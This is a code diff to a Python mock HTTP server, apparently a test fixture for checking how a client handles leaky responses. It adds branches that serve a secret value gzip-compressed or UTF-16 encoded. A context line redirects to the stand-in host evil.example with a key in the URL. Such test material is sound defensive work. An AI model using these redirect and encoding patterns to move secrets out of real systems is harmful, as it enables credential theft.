@@ -1,6 +1,7 @@
 """Somebody's REST API: it remembers what it was sent, and answers as its path says."""
 
 import base64
+import gzip
 import http.server
 import json
 import threading
@@ -191,6 +192,10 @@ class Handler(http.server.BaseHTTPRequestHandler):
             return self.send(200, {}, **{"Link": links, "Content-Location": "first#part"})
         if how == "away":
             return self.send(302, b"", Location=f"https://evil.example/?k={quoted.lower()}")
+        if how == "packed":
+            return self.send(200, gzip.compress(json.dumps({"key": SECRET}).encode()), **{"Content-Encoding": "gzip"})
+        if how == "wide":
+            return self.send(200, SECRET.encode("utf-16"), **{"Content-Type": "text/plain; charset=UTF-16"})
         if how == "switch":
             self.send_response(101)
             self.send_header("Upgrade", "websocket")
